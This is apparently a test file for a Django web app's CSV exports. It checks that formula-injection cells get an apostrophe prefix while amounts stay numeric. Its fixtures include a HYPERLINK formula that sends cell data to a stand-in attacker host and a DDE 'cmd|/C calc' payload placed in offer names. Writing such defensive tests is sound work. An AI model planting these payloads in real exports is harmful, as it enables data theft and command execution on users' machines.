"""Spreadsheet formula injection in the web app's CSV files (issue 16, item 3): a provider's offer
name, a budget name, a monitor export cell that starts with = + - @ is written as text; amounts stay
numbers. Runs on SQLite (Python rows) and on PostgreSQL (COPY ... TO STDOUT)."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from meedoen.web.casework.monitor_export import COLUMNS, write_tables
from meedoen.web.citypass import redemption, statements
from meedoen.web.citypass.views.common import csv_response
from tests.web.citypass.conftest import offer
from tests.web.conftest import logged_in

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_an_offer_name_never_runs_as_a_formula_in_the_statement(card, provider):
    lessons = offer(provider, "Zwemles volwassenen")
    lessons.name = EVIL
    lessons.save()
    other = offer(provider, "Jaarabonnement")
    other.name = "-2+3+cmd|' /C calc'!A0"
    other.save()
    redemption.book(provider, card.number, lessons.pk, 9500)
    entry = redemption.book(provider, card.number, other.pk, 1250)
    redemption.reverse(provider, entry.reference)
    month = timezone.localdate()
    written = "".join(statements.csv_rows(provider, month))  # COPY on PostgreSQL
    assert written == "".join(statements.python_rows(provider, month))
    body = rows(written)[1:]
    assert [r[3] for r in body] == ["'" + EVIL, "'-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"]
    assert [r[5] for r in body] == ["95,00", "12,50", "-12,50"]  # the reversal stays a number
    today = timezone.localdate()
    response = logged_in(provider.users.get()).get(
        f"/stadspas/aanbieder/overzichten/{today.year}-{today.month}.csv"
    )
    assert "'" + EVIL in "".join(rows(b"".join(response.streaming_content).decode())[1][3:4])


def test_the_officers_csv_export_neutralises_its_cells():
    response = csv_response(
        [["onderdeel", "naam", "bedrag in centen"], ["budget", "@SUM(A1)", "-500"]], "x.csv"
    )
    assert rows(response.content.decode()) == [
        ["onderdeel", "naam", "bedrag in centen"],
        ["budget", "'@SUM(A1)", "-500"],
    ]


def test_the_monitor_export_neutralises_its_cells(tmp_path):
    data = {name: [] for name in COLUMNS}
    data["persons"] = [
        {"person_id": "p1", "birth_date": "1990-01-01", "area": "=1+1", "startkwalificatie": "+x"}
    ]
    write_tables(tmp_path, data)
    written = list(csv.reader((tmp_path / "persons.csv").open(encoding="utf-8")))
    assert written[1] == ["p1", "1990-01-01", "'=1+1", "'+x"]
